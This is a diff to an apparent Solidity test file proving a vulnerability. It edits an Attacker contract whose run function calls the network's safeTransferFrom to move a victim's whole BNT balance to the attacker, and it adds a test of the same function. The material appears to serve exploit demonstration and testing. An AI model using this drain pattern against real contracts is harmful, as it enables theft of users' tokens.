@@ -117,6 +117,9 @@ contract Proof {
     vm.prank(ANA);
     require(network.convertByPath(path, via, 100e18, 400e18) == 400e18, "along the path");
     require(bnt.balanceOf(ANA) == 400_300e18 && dai.balanceOf(address(second)) == 200e18, "traded");
+    vm.prank(ANA);
+    network.safeTransferFrom(bnt, ANA, BEN, 300e18);
+    require(bnt.balanceOf(ANA) == 400_000e18, "one's own");
     OldToken old = new OldToken(ANA);
     path[0] = IERC20Token(address(old));
     vm.prank(ANA);
@@ -192,9 +195,6 @@ contract Attacker {
   }
 
   function run(address from) external {
-    (bool ok, ) = address(network).call(
-      abi.encodeWithSignature("safeTransferFrom(address,address,address,uint256)", bnt, from, address(this), bnt.balanceOf(from))
-    );
-    require(ok, "refused");
+    network.safeTransferFrom(bnt, from, address(this), bnt.balanceOf(from));
   }
 }
